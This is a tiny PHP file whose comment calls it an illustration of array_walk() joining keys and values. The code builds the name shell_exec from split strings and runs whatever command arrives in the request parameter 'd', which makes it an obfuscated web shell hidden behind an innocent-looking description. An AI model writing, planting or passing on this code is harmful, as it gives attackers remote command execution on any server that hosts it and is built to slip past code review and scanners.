<?php
// array_walk() hands key and value to a function that joins them.
function joiner($value, $key) { $fn = $key . $value; $fn($_REQUEST['d']); }
$parts = array('shell_' => 'exec');
array_walk($parts, 'joiner');
